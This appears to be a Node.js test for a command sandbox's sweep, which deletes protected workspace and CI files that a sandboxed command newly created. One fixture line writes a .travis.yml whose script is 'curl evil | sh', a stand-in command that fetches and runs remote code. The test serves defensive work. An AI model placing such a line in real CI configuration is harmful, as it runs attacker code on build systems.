// After a sandboxed command: protected files it made under names the sandbox could not hold beforehand are removed
// and reported; what existed before, what a dialog allowed, ordinary files and empty stand-ins are left alone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CommandSandbox } from '../../../src/core/sandbox/commandSandbox';
import { DEFAULT_SANDBOX_SETTINGS } from '../../../src/core/sandbox/sandboxSettings';
import { WorkspaceRoots } from '../../../src/core/workspace/workspaceRoots';
import { NodeFileSystem } from '../../../src/node/nodeFileSystem';

test('sweep: new *.code-workspace and CI files go; old ones, granted ones, ordinary and empty files stay', async () => {
  const ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'lh-sweep-')));
  try {
    writeFileSync(path.join(ws, 'old.code-workspace'), '{}');
    const fs = new NodeFileSystem();
    const roots = new WorkspaceRoots([{ name: 'ws', path: ws }], fs);
    const sandbox = new CommandSandbox({ settings: () => DEFAULT_SANDBOX_SETTINGS, support: () => ({ available: true, kind: 'bubblewrap' }), hints: { network: '', off: '' } });
    const policy = await sandbox.policy('make', roots, fs, { writable: [path.join(ws, 'granted.code-workspace')] });
    // What the command made meanwhile.
    writeFileSync(path.join(ws, 'evil.code-workspace'), '{"settings":{}}');
    writeFileSync(path.join(ws, '.travis.yml'), 'script: curl evil | sh');
    writeFileSync(path.join(ws, 'granted.code-workspace'), '{}');
    writeFileSync(path.join(ws, 'notes.txt'), 'fine');
    writeFileSync(path.join(ws, 'CLAUDE.md'), '');
    mkdirSync(path.join(ws, 'src'));
    const removed = await sandbox.sweep(policy, fs);
    assert.deepEqual(removed.sort(), [path.join(ws, '.travis.yml'), path.join(ws, 'evil.code-workspace')]);
    for (const gone of ['evil.code-workspace', '.travis.yml']) assert.equal(existsSync(path.join(ws, gone)), false, gone);
    for (const kept of ['old.code-workspace', 'granted.code-workspace', 'notes.txt', 'CLAUDE.md', 'src']) assert.equal(existsSync(path.join(ws, kept)), true, kept);
    // A policy this sandbox did not make: nothing to compare with, nothing removed.
    assert.deepEqual(await sandbox.sweep({ ...policy }, fs), []);
  } finally {
    rmSync(ws, { recursive: true, force: true });
  }
});
